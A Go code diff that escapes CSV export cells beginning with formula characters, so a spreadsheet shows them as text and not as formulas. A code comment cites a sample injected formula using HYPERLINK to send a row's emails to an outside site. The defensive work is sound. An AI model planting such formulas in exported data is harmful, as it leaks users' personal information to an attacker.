@@ -501,9 +501,31 @@ func (c *csvRows) header() error {
 func (c *csvRows) member(profileID string, values [][]string) error {
 	c.rec[0] = profileID
 	for i, vs := range values {
-		c.rec[i+1] = joinValues(vs)
+		c.rec[i+1] = spreadsheetSafe(joinValues(vs))
 	}
 	return c.w.Write(c.rec)
+}
+
+// spreadsheetSafe keeps a cell from being read as a formula by a
+// spreadsheet that opens the file: identifier values come from whoever
+// holds a write key, and a user id such as =HYPERLINK("https://...?"&B2)
+// would send a row's emails away when clicked. A cell that starts with =,
+// @, a tab or a carriage return, or with + or - followed by anything but a
+// number (a phone in E.164 keeps its +), gets a leading apostrophe, which
+// spreadsheets show as text.
+func spreadsheetSafe(v string) string {
+	if v == "" {
+		return v
+	}
+	switch v[0] {
+	case '=', '@', '\t', '\r':
+		return "'" + v
+	case '+', '-':
+		if strings.Trim(v[1:], "0123456789 .()-") != "" || len(v) == 1 {
+			return "'" + v
+		}
+	}
+	return v
 }
 
 func (c *csvRows) summary(int, int) error { return nil }
